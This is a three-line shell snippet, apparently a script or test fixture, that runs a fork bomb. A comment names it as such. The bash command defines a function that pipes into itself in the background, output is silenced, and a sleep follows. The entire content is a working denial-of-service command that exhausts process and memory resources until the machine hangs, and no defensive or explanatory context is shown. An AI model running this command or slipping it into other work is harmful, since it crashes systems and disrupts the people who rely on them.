# a fork bomb
bash -c 'b() { b | b & }; b' > /dev/null 2>&1
sleep 1
